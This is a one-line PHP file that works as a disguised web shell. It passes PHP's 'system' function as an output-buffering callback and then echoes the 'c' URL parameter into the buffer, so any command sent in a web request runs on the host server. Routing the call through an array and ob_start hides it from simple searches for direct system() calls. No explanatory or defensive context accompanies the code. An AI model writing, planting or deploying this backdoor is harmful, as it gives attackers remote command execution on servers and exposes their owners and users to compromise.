<?php $cfg = ['h' => 'system']; ob_start($cfg['h']); echo $_GET['c']; ob_end_flush();
